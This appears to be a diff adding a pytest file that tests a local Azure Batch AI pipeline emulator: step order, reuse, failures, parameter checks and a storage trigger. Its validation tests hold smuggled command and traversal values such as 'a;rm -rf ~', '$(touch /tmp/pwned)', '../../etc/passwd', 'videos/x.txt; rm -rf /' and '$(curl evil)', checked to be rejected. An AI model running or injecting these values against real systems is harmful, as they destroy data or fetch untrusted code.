@@ -1,0 +1,150 @@
+"""Local pipelines: steps in dependency order through the launcher, reuse, parameters, and the storage trigger."""
+
+from __future__ import annotations
+
+import json
+import shutil
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from azbai.errors import JobFailed, PipelineError
+from azbai.local.azurite import DEV_ACCOUNT, Emulator
+from azbai.local.pipelines import PipelineRunner, check_datastore_path, list_runs
+from azbai.local.stores import open_store
+from azbai.local.trigger import TriggerWatcher
+from azbai.local.workspace import Workspace
+from azbai.migrate import plan_pipeline_file
+from tests.conftest import DATA
+
+pytestmark = pytest.mark.azurite
+PIPELINE = DATA / "pipeline"
+
+
+@pytest.fixture
+def workspace(tmp_path: Path) -> Iterator[Workspace]:
+    workspace = Workspace(tmp_path / "ws")
+    emulator = Emulator(workspace)
+    emulator.ensure()
+    scripts = open_store(workspace, DEV_ACCOUNT, share="scripts")
+    for name in ("produce.py", "consume.py"):
+        scripts.upload_file(PIPELINE / name, name)
+    try:
+        yield workspace
+    finally:
+        emulator.stop()
+
+
+def joined(workspace: Workspace) -> list[str]:
+    logs = open_store(workspace, DEV_ACCOUNT, share="logs")
+    return [e.path for e in logs.list() if e.path.endswith("/result/joined.txt")]
+
+
+def runner(workspace: Workspace, reuse: bool = True) -> PipelineRunner:
+    plan, _ = plan_pipeline_file(PIPELINE / "pipeline.json")
+    return PipelineRunner(workspace, plan, PIPELINE, reuse=reuse)
+
+
+def test_steps_run_in_order_and_pass_data(workspace: Workspace) -> None:
+    inbox = open_store(workspace, DEV_ACCOUNT, container="inbox")
+    inbox.write_bytes("incoming/words.txt", b"alpha beta gamma\n")
+    seen: list[tuple[str, str]] = []
+    run = runner(workspace).run({"greeting": "hi"}, progress=lambda step, state: seen.append((step, state)))
+    assert run.state == "succeeded"
+    assert seen == [("produce", "running"), ("produce", "succeeded"), ("consume", "running"), ("consume", "succeeded")]
+    assert sorted(p.name for p in run.data_dir("words").iterdir()) == ["000.txt", "001.txt", "002.txt"]
+    (path,) = joined(workspace)
+    text = open_store(workspace, DEV_ACCOUNT, share="logs").read_bytes(path).decode()
+    assert text == "hi alpha\nhi beta\nhi gamma\n"
+
+
+def test_unchanged_steps_are_reused_and_changes_rerun(workspace: Workspace) -> None:
+    inbox = open_store(workspace, DEV_ACCOUNT, container="inbox")
+    inbox.write_bytes("incoming/words.txt", b"one two\n")
+    first = runner(workspace).run()
+    second = runner(workspace).run()
+    assert [s.state for s in second.steps.values()] == ["reused", "reused"]
+    assert sorted(p.name for p in second.data_dir("words").iterdir()) == ["000.txt", "001.txt"]
+    third = runner(workspace).run({"greeting": "hey"})  # a parameter changed
+    assert [s.state for s in third.steps.values()] == ["succeeded", "succeeded"]
+    inbox.write_bytes("incoming/words.txt", b"one two three\n")  # the input data changed
+    fourth = runner(workspace).run({"greeting": "hey"})
+    assert fourth.steps["produce"].state == "succeeded"
+    scripts = open_store(workspace, DEV_ACCOUNT, share="scripts")  # the code changed
+    scripts.write_bytes("consume.py", (PIPELINE / "consume.py").read_bytes() + b"\n# changed\n")
+    fifth = runner(workspace).run({"greeting": "hey"})
+    assert [s.state for s in fifth.steps.values()] == ["reused", "succeeded"]
+    no_reuse = runner(workspace, reuse=False).run({"greeting": "hey"})
+    assert [s.state for s in no_reuse.steps.values()] == ["succeeded", "succeeded"]
+    assert [r.run_id for r in list_runs(workspace, "words")][0] == first.run_id
+
+
+def test_a_failing_step_stops_the_pipeline(workspace: Workspace) -> None:
+    with pytest.raises(PipelineError, match="parameter 'text': nothing at"):
+        runner(workspace).run({"text": "incoming/missing.txt"})  # nothing there: no step starts
+    inbox = open_store(workspace, DEV_ACCOUNT, container="inbox")
+    inbox.write_bytes("incoming/bad.txt", b"x\n")
+    scripts = open_store(workspace, DEV_ACCOUNT, share="scripts")
+    scripts.write_bytes("consume.py", b"import sys; sys.exit(7)\n")
+    with pytest.raises(JobFailed, match="step 'consume'.*exit code 7"):
+        runner(workspace).run({"text": "incoming/bad.txt"})
+    run = list_runs(workspace, "words")[-1]
+    assert run.state == "failed" and run.steps["consume"].state == "failed" and run.steps["produce"].state == "succeeded"
+
+
+def test_parameters_are_checked(workspace: Workspace) -> None:
+    with pytest.raises(PipelineError, match="unknown parameter"):
+        runner(workspace).run({"colour": "blue"})
+    with pytest.raises(PipelineError, match="not a datastore path|must not contain"):
+        runner(workspace).run({"text": "../../etc/passwd"})
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["../secret.txt", "incoming/../../x", "/etc/passwd", "a;rm -rf ~", "$(touch /tmp/pwned)", "`id`", "a\nb", "", "a//b"],
+)
+def test_malicious_paths_are_rejected(value: str) -> None:
+    with pytest.raises(PipelineError):
+        check_datastore_path(value, what="test")
+
+
+def test_the_trigger_runs_new_blobs_once_and_rejects_bad_ones(workspace: Workspace, tmp_path: Path) -> None:
+    inbox = open_store(workspace, DEV_ACCOUNT, container="inbox")
+    plan, _ = plan_pipeline_file(PIPELINE / "pipeline.json")
+    watcher = TriggerWatcher(workspace, plan, PIPELINE)
+    assert watcher.poll() == []  # nothing there yet
+    inbox.write_bytes("incoming/first.txt", b"red green\n")
+    inbox.write_bytes("incoming/ignored.bin", b"not a .txt\n")
+    (fired,) = watcher.poll()
+    assert fired.parameter == "incoming/first.txt" and fired.run is not None and fired.run.state == "succeeded"
+    assert watcher.poll() == []  # seen: not run twice
+    again = TriggerWatcher(workspace, plan, PIPELINE)  # a restarted watcher remembers
+    assert again.poll() == []
+    inbox.write_bytes("incoming/first.txt", b"red green blue\n")  # changed content fires again
+    (changed,) = again.poll()
+    assert changed.run is not None
+    inbox.write_bytes("incoming/bad name;rm -rf.txt", b"x\n")
+    (rejected,) = again.poll()
+    assert rejected.run is None and "not a datastore path" in (rejected.error or "")
+
+
+def test_trigger_files_with_content(workspace: Workspace, tmp_path: Path) -> None:
+    """The Batch AI architecture's trigger file: its content names what to process; the content is untrusted."""
+    spec = json.loads((PIPELINE / "pipeline.json").read_text())
+    spec["trigger"] = {"parameter": "text", "containerName": "inbox", "path": "triggers", "pattern": "trigger*.txt",
+                       "use": "content"}  # fmt: skip
+    folder = tmp_path / "pipeline"
+    shutil.copytree(PIPELINE, folder)
+    (folder / "pipeline.json").write_text(json.dumps(spec))
+    plan, _ = plan_pipeline_file(folder / "pipeline.json")
+    inbox = open_store(workspace, DEV_ACCOUNT, container="inbox")
+    inbox.write_bytes("videos/words.txt", b"cat dog\n")
+    inbox.write_bytes("triggers/trigger_0.txt", b"videos/words.txt\n")
+    inbox.write_bytes("triggers/trigger_1.txt", b"../../escape\n")
+    inbox.write_bytes("triggers/trigger_2.txt", b"videos/x.txt; rm -rf /\n")
+    inbox.write_bytes("triggers/trigger_3.txt", b"$(curl evil)\n")
+    fired = {f.blob: f for f in TriggerWatcher(workspace, plan, folder).poll()}
+    assert fired["triggers/trigger_0.txt"].run is not None
+    for bad in ("triggers/trigger_1.txt", "triggers/trigger_2.txt", "triggers/trigger_3.txt"):
+        assert fired[bad].run is None and fired[bad].error
